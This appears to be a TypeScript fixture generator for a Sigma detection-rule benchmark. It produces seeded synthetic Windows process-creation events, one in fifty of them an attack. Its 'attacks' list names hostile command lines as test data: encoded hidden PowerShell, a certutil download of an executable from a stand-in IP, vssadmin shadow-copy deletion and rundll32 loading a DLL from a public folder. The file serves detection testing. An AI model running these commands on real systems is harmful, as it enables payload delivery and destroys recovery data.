import type { JsonObject } from '@sallyport/contracts';
import type { EventLogSource } from '@sallyport/sigma-rules';
import type { SeededRandom } from './seeded-random.ts';
import { createWindowsEvents } from './windows-events.ts';

export type SigmaLane = {
  readonly name: string;
  readonly texts: readonly string[];
  /** What is known of where the events come from; undefined: what they tell themselves. */
  readonly source?: EventLogSource;
};

const images = [
  'C:\\Windows\\System32\\svchost.exe',
  'C:\\Windows\\System32\\conhost.exe',
  'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
  'C:\\Windows\\explorer.exe',
  'C:\\Program Files\\Mozilla Firefox\\firefox.exe',
  'C:\\Program Files\\Contoso\\Backup Agent\\backup-agent.exe',
] as const;
const parents = [
  'C:\\Windows\\System32\\services.exe',
  'C:\\Windows\\explorer.exe',
  'C:\\Windows\\System32\\cmd.exe',
  'C:\\Windows\\System32\\winlogon.exe',
] as const;
const switches = [
  '-k netsvcs -p',
  '0xffffffff -ForceV1',
  '-secured -Embedding',
  '/recycle',
  '--type=renderer --lang=de',
] as const;
const attacks = [
  'powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAA==',
  'certutil.exe -urlcache -split -f http://192.0.2.7/x.exe C:\\Users\\Public\\x.exe',
  'cmd.exe /c vssadmin.exe delete shadows /all /quiet',
  'rundll32.exe C:\\Users\\Public\\a.dll,StartW',
  'whoami.exe /all',
] as const;

/** The events of the bench, made from a seed: the same for every run. One event in fifty of the Windows lanes is an attack. */
export function createSigmaLanes(random: SeededRandom, events: number): readonly SigmaLane[] {
  const make = (maker: (order: number) => JsonObject): readonly string[] =>
    Array.from({ length: events }, (_, order) => JSON.stringify(maker(order)));
  const processes = make((order) => processCreation(random, order % 50 === 0));
  const collected = createWindowsEvents(random, Date.UTC(2026, 10, 21));
  return [
    { name: 'structured_windows', texts: processes },
    {
      name: 'structured_windows_routed',
      texts: processes,
      source: { product: 'windows', category: ['process_creation'] },
    },
    {
      name: 'collected_windows',
      texts: make((order) => (order % 50 === 0 ? collected.attackEvent() : collected.next())),
    },
    {
      name: 'nothing_matches',
      texts: make(() => Object.fromEntries(Array.from({ length: 8 }, (_, field) => [`f${field}`, random.hex(24)]))),
    },
  ];
}

/** A process creation with the names Sigma has for it, without channel or provider: where it comes from cannot be told. */
function processCreation(random: SeededRandom, isAttack: boolean): JsonObject {
  const image = random.pick(images);
  const parent = random.pick(parents);
  return {
    EventID: 1,
    UtcTime: `2026-11-21 10:${10 + random.integer(50)}:${10 + random.integer(50)}.${100 + random.integer(900)}`,
    Computer: `ws-${1000 + random.integer(400)}`,
    User: `CONTOSO\\user${random.integer(300)}`,
    Image: image,
    CommandLine: isAttack ? random.pick(attacks) : `"${image}" ${random.pick(switches)}`,
    CurrentDirectory: 'C:\\Windows\\system32\\',
    OriginalFileName: image.split('\\').at(-1) ?? image,
    ParentImage: parent,
    ParentCommandLine: `"${parent}" ${random.pick(switches)}`,
    IntegrityLevel: random.pick(['Medium', 'High', 'System']),
    LogonId: `0x${random.hex(5)}`,
    ProcessId: random.integer(60_000),
    ParentProcessId: random.integer(60_000),
    ProcessGuid: `{${random.hex(8)}-${random.hex(4)}-${random.hex(4)}-${random.hex(4)}-${random.hex(12)}}`,
    Hashes: `SHA256=${random.hex(64).toUpperCase()}`,
  };
}
